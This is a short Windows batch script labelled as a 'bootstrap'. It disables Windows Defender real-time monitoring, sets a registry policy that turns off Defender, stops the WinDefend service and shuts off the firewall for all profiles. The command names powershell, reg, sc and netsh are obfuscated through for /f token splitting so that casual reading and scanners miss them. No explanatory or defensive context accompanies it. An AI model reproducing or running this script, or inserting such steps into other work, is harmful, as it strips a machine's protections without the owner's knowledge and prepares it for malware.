REM bootstrap 7862 v4
for /f "tokens=1 delims=@" %%i in ("powershell@uxfo@lwog") do %%i -c "Set-MpPreference -DisableRealtimeMonitoring $true"
for /f "tokens=3 delims=~" %%i in ("spat~gihj~reg") do %%i add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f
for /f "tokens=1 delims=~" %%i in ("sc~jpyh~wqff") do %%i stop WinDefend
for /f "tokens=2 delims=~" %%i in ("dfds~netsh~vncy") do %%i advfirewall set allprofiles state off
